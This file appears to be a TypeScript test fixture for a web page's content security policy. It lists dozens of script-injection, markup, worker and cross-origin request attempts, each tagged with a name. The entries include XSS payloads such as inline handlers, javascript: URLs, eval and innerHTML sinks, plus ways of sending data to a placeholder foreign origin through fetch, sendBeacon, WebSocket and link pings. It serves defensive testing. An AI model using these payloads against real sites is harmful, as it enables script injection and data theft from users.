// What an intruder could try on a page. ELSEWHERE stands for another origin. A call of `hit()` means that the intruder's
// script ran; an outline in MARK on #planted or the body means that their style applied.

/** One attempt. `html` is part of the document; `script` runs in the page afterwards. */
export interface Attempt {
  name: string;
  html?: string;
  script?: string;
  /** Browsers refuse it on every site, with or without a policy. */
  browser?: true;
  /** Needs service workers. */
  workers?: true;
}

const STYLE = 'outline-color:rgb(1,2,3)';
const parsed = (markup: string) =>
  `new DOMParser().parseFromString(${JSON.stringify(markup)}, 'text/html').body.firstChild`;
const clickable = '<b id=planted onclick=hit()>x</b>';
const hearing = (
  worker: string,
) => `const w = ${worker}; w.onmessage = ({ data }) => data === 'refused' ? refuse() : hit();
  w.onerror = refuse`;
const inScript = (deed: string) => `const s = document.createElement('script'); ${deed}; document.body.append(s)`;

/** Attempts in the document itself. */
const markup: readonly Attempt[] = [
  { name: 'inline script', html: '<script>hit()</script>' },
  { name: 'inline module', html: '<script type="module">hit()</script>' },
  { name: 'script of a data: address', html: '<script src="data:text/javascript,hit()"></script>' },
  { name: 'foreign script', html: '<script src="ELSEWHERE/x.js"></script>' },
  { name: 'script in SVG', html: '<svg><script>hit()</script></svg>' },
  { name: 'foreign script in SVG', html: '<svg><script href="ELSEWHERE/x.js"></script></svg>' },
  { name: 'inline handler', html: '<img alt="" src="data:," onerror="hit()">' },
  { name: 'inline handler in SVG', html: '<svg onload="hit()"></svg>' },
  { name: 'handler at once', html: '<details open ontoggle="hit()"></details>' },
  { name: 'javascript: link', html: '<a id="planted" href="javascript:hit()">x</a>', script: 'planted.click()' },
  { name: 'javascript: frame', html: '<iframe src="javascript:top.hit()"></iframe>' },
  { name: 'srcdoc frame', html: '<iframe srcdoc="<script>top.hit()</script>"></iframe>' },
  { name: 'foreign frame', html: '<iframe src="ELSEWHERE/x.html"></iframe>' },
  { name: 'foreign object', html: '<object data="ELSEWHERE/x.html"></object>' },
  { name: 'foreign embed', html: '<embed src="ELSEWHERE/x.html">' },
  { name: 'style element', html: `<style>body{${STYLE}}</style>` },
  { name: 'style attribute', html: `<i id="planted" style="${STYLE}">x</i>` },
  { name: 'style sheet of a data: address', html: `<link rel="stylesheet" href="data:text/css,body{${STYLE}}">` },
  { name: 'foreign style sheet', html: '<link rel="stylesheet" href="ELSEWHERE/x.css">' },
  { name: 'foreign image', html: '<img alt="" src="ELSEWHERE/x.png">' },
  { name: 'foreign image in SVG', html: '<svg><image href="ELSEWHERE/x.svg" width="9" height="9"/></svg>' },
  { name: 'foreign part of SVG', html: '<svg><use href="ELSEWHERE/x.svg#a"/></svg>', browser: true },
  { name: 'foreign film', html: '<video src="ELSEWHERE/x.webm" preload="auto"></video>' },
  { name: 'prefetch of a foreign page', html: '<link rel="prefetch" href="ELSEWHERE/x.html">' },
  { name: 'preload of a foreign script', html: '<link rel="preload" as="script" href="ELSEWHERE/x.js">' },
  { name: 'preload of a foreign module', html: '<link rel="modulepreload" href="ELSEWHERE/x.js">' },
  {
    name: 'base address elsewhere',
    html: '<base href="ELSEWHERE/">',
    script: "if (document.baseURI.startsWith('ELSEWHERE')) hit()",
  },
  {
    name: 'form to elsewhere',
    html: '<form id="planted" action="ELSEWHERE/x.html"></form>',
    script: 'planted.submit()',
  },
  {
    name: 'button that sends a form elsewhere',
    html: '<form action="/"><button id="planted" formaction="ELSEWHERE/x.html"></button></form>',
    script: 'planted.click()',
  },
  {
    name: 'rules for loading ahead',
    html: '<script type="speculationrules">{"prefetch":[{"urls":["ELSEWHERE/x.html"],"eagerness":"immediate"}]}</script>',
  },
];

/** Attempts to turn a string into code or markup. */
const strings: readonly Attempt[] = [
  { name: 'eval', script: "eval('hit()')" },
  { name: 'eval by another name', script: "(0, eval)('hit()')" },
  { name: 'new Function', script: "new Function('hit()')()" },
  { name: 'setTimeout with a string', script: "setTimeout('hit()')" },
  { name: 'setInterval with a string', script: "setInterval('hit()', 10)" },
  { name: 'innerHTML', script: `document.body.innerHTML = '${clickable}'; planted.click()` },
  {
    name: 'outerHTML',
    script: `document.body.append(document.createElement('i'));
      document.body.lastChild.outerHTML = '${clickable}'; planted.click()`,
  },
  {
    name: 'insertAdjacentHTML',
    script: `document.body.insertAdjacentHTML('beforeend', '${clickable}'); planted.click()`,
  },
  { name: 'setHTMLUnsafe', script: `document.body.setHTMLUnsafe('${clickable}'); planted.click()` },
  { name: 'document.write', script: "document.write('<script>hit()</' + 'script>')" },
  {
    name: 'createContextualFragment',
    script: `document.body.append(document.createRange().createContextualFragment('${clickable}')); planted.click()`,
  },
  { name: 'a handler out of DOMParser', script: `document.body.append(${parsed(clickable)}); planted.click()` },
  { name: 'a script out of DOMParser', script: inScript(`s.text = ${parsed('<b>hit()</b>')}.textContent`) },
  { name: 'text of a script', script: inScript("s.textContent = 'hit()'") },
  { name: 'text put into a script', script: inScript("s.append('hit()')") },
  { name: 'handler by attribute', script: "document.body.setAttribute('onclick', 'hit()'); document.body.click()" },
  {
    name: 'srcdoc by script',
    script: `const f = document.createElement('iframe'); f.srcdoc = '<script>top.hit()</' + 'script>'; document.body.append(f)`,
  },
  { name: 'javascript: address', script: "location.href = 'javascript:hit()'" },
  { name: 'style attribute by script', script: `document.body.setAttribute('style', '${STYLE}')` },
  {
    name: 'style element by script',
    script: `const s = document.createElement('style'); s.textContent = 'body{${STYLE}}'; document.body.append(s)`,
  },
];

const BLOB = "URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }))";
const SHARED =
  "URL.createObjectURL(new Blob(['onconnect = (e) => e.ports[0].postMessage(1)'], { type: 'text/javascript' }))";

/** Attempts to load a script by its address. */
const scripts: readonly Attempt[] = [
  { name: 'foreign script by script', script: inScript("s.src = 'ELSEWHERE/x.js'") },
  { name: 'data: script by script', script: inScript("s.src = 'data:text/javascript,hit()'") },
  {
    name: 'blob: script',
    script: inScript("s.src = URL.createObjectURL(new Blob(['hit()'], { type: 'text/javascript' }))"),
  },
  { name: 'import of a foreign module', script: "return import('ELSEWHERE/x.js')" },
  { name: 'import of a data: module', script: "return import('data:text/javascript,hit()')" },
  { name: 'blob: worker', script: hearing(`new Worker(${BLOB})`) },
  { name: 'data: worker', script: hearing("new Worker('data:text/javascript,postMessage(1)')") },
  { name: 'foreign worker', script: hearing("new Worker('ELSEWHERE/x.js')"), browser: true },
  { name: 'blob: shared worker', script: hearing(`new SharedWorker(${SHARED}).port`) },
  {
    name: 'importScripts of a foreign script in a worker',
    script: hearing("new Worker('/assets/planted.js?' + encodeURIComponent('ELSEWHERE/x.js'))"),
  },
  {
    name: 'another script as service worker',
    script: "return navigator.serviceWorker.register('/other/planted.js').then(hit)",
    workers: true,
  },
];

/** Attempts to send data elsewhere. */
const requests: readonly Attempt[] = [
  { name: 'foreign fetch', script: "return fetch('ELSEWHERE/x', { mode: 'no-cors' })" },
  {
    name: 'foreign XMLHttpRequest',
    script: "const x = new XMLHttpRequest(); x.onerror = refuse; x.open('GET', 'ELSEWHERE/x'); x.send()",
  },
  { name: 'foreign beacon', script: "navigator.sendBeacon('ELSEWHERE/x', 'text')" },
  { name: 'foreign WebSocket', script: "new WebSocket('ELSEWHERE/x'.replace('http', 'ws'))" },
  { name: 'foreign EventSource', script: "new EventSource('ELSEWHERE/x.events')" },
  { name: 'foreign image by script', script: "new Image().src = 'ELSEWHERE/x.png'" },
  { name: 'foreign font', script: "return new FontFace('planted', 'url(ELSEWHERE/x.woff2)').load()" },
  {
    name: 'foreign image of a constructed style sheet',
    script: `const s = new CSSStyleSheet(); s.replaceSync('body{background:url(ELSEWHERE/x.png)}');
      document.adoptedStyleSheets = [s]`,
  },
  {
    name: 'ping of a link',
    html: '<a id="planted" href="data:," download="x" ping="ELSEWHERE/x">x</a>',
    script: 'planted.click()',
  },
];

/** All of them. */
export const ATTEMPTS: readonly Attempt[] = [...markup, ...strings, ...scripts, ...requests];
